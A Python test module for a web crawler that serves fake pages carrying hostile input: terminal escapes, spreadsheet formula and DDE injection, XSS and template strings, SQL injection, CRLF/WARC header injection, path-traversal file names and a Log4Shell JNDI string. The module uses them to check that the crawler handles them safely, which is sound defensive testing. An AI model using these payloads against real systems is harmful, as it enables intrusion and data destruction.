"""Text that attacks: titles, addresses and headers aimed at the terminal, the table, the archive, the disk, the database."""

from .cases import case, front, leaf, moved
from .content import page
from .judge import Check, Evidence, asked_at_most, exported_nowhere, read
from .server import HTML, Answer, Site

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b31m\x08\x08\r\x00\x7f\u202eevil\u2066"
FORMULAS = (
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    " =1+1",
    "\n=1+1",
    "＝1+1",
)


def _titled(site: Site, *titles: str) -> list[Check]:
    """Pages whose title, text, anchor and headers all say the attack."""
    paths = [f"/t{n}" for n in range(len(titles))]
    links = "".join(f'<a href="{path}">{title}</a>' for path, title in zip(paths, titles, strict=True))
    front(site, body=links)
    for path, title in zip(paths, titles, strict=True):
        body = f"<html><head><title>{title}</title></head><body><h1>{title}</h1><p>{title} {path}</p></body></html>"
        site.on(path, Answer(body.encode("utf-8", "surrogatepass")))
    return [read(*paths)]


@case("text")
def escapes_for_the_terminal(site: Site) -> list[Check]:
    checks = _titled(
        site,
        ESCAPES,
        "[bold red]rich[/] [link=file:///etc/passwd]x[/link] [/nothing]",
        "%s%n{0}{__class__}\\x1b[31m",
    )
    site.on(
        "/t1",
        Answer(page("reasons"), headers=(HTML, ("X-Note", ESCAPES.replace("\r", "").replace("\x00", "")))),
    )
    return checks


@case("text")
def formulas_for_the_table(site: Site) -> list[Check]:
    return _titled(site, *FORMULAS)


@case("text")
def html_for_the_page_of_results(site: Site) -> list[Check]:
    return _titled(
        site,
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
        "{{7*7}}${7*7}&lt;%=7*7%&gt;",
    )


@case("text")
def commands_for_the_database(site: Site) -> list[Check]:
    front(
        site, "/x'; DROP TABLE pages;--", "/x%27%20OR%201=1", '/x"); DELETE FROM links;--', "/%00", "/a%00b"
    )
    site.otherwise = Answer(page("Robert'); DROP TABLE links;--"))
    return [read("/x%27%20OR%201=1"), asked_at_most(12)]


@case("text")
def line_breaks_for_the_archive(site: Site) -> list[Check]:
    injected = "/x%0d%0aWARC/1.1%0d%0aWARC-Type:%20response%0d%0aContent-Length:%205%0d%0a%0d%0ahello"
    front(site, injected, "/y\r\nWARC/1.1", "/go", "/head", body='<a href="/z\nWARC-Type: response">z</a>')
    site.on("/go", moved("/from%0d%0aSet-Cookie:%20a=b"))
    site.on("/head", Answer(page("head"), headers=(HTML, ("X-A", "1\r\nWARC/1.1\r\nWARC-Type: response"))))
    site.otherwise = Answer(
        page("with line breaks")
        + b"\r\n\r\nWARC/1.1\r\nWARC-Type: response\r\nContent-Length: 3\r\n\r\nabc\r\n\r\n"
    )
    return [read(injected.replace("%0d%0a", "%0D%0A")), asked_at_most(4, "/head")]


@case("text")
def names_for_the_file_system(site: Site) -> list[Check]:
    attached = ("Content-Disposition", "attachment; filename=../../../../tmp/clew-was-here")
    front(
        site,
        "/..%2f..%2f..%2ftmp%2fclew-was-here",
        "/a/..%5c..%5cclew-was-here",
        "/dl",
        "/" + "n" * 400,
        "/con.html",
        "/.../x",
    )
    site.on("/dl", Answer(page("download"), headers=(HTML, attached)))
    site.otherwise = Answer(page("a file"))

    def nowhere(evidence: Evidence, _: str) -> None:
        known = {"clew.toml", "crawl.db", "crawl.db-wal", "crawl.db-shm", "pages", "models", "derived"}
        strange = [
            p.name
            for p in evidence.folder.iterdir()
            if p.name not in known and not p.name.startswith((".", "crawl."))
        ]
        assert not strange, f"files in the crawl folder: {strange}"
        found = [p.name for p in (evidence.folder / "pages").iterdir() if not p.name.endswith(".warc.gz")]
        assert not found, f"files among the pages: {found}"

    return [read("/dl", "/" + "n" * 400), nowhere]


@case("text")
def bytes_that_are_no_text(site: Site) -> list[Check]:
    front(site, "/bad-utf8", "/surrogates", "/nul", "/separators", "/%ff%fe", "/caf%e9")
    site.on("/bad-utf8", Answer(b"<title>\xff\xfe\xc3\x28\xed\xa0\x80</title><p>\xf0\x28\x8c\xbc words"))
    site.on("/surrogates", Answer(b"<title>&#xD800;&#xDFFF;&#x110000;</title><p>&#xD83D; words"))
    site.on("/nul", Answer(b"<title>a\0b&#0;c</title><p>words \0 words"))
    site.on("/separators", Answer("<title>a\u2028b\u2029c\x85d</title><p>\ufeff\ufffe words".encode()))
    leaf(site, "/%FF%FE", "/caf%E9")
    return [read("/bad-utf8", "/surrogates", "/nul", "/separators", "/%FF%FE", "/caf%E9")]


@case("text")
def long_anchors_and_attributes(site: Site) -> list[Check]:
    front(site, body=f"<a href=/a title='{'t' * 300_000}'>{'anchor ' * 50_000}</a>")
    leaf(site, "/a")

    def short(evidence: Evidence, name: str) -> None:
        row = evidence.row(name, "/a")
        assert row is not None
        assert len(str(row["anchor"])) <= 10_000, f"an anchor of {len(str(row['anchor']))} characters"

    return [read("/a"), short]


@case("text")
def headers_that_name_code(site: Site) -> list[Check]:
    values = (
        ("Referrer-Policy", "os.system"),
        ("Content-Language", "../../etc"),
        ("Server", "${jndi:ldap://x/}"),
        ("ETag", "\x1b[31m"),
    )
    front(site, "/a", headers=values)
    site.on("/a", Answer(page("a"), headers=(("Content-Type", "text/html; charset=os.system"), *values)))
    return [read("/a"), exported_nowhere("jndi:ldap")]
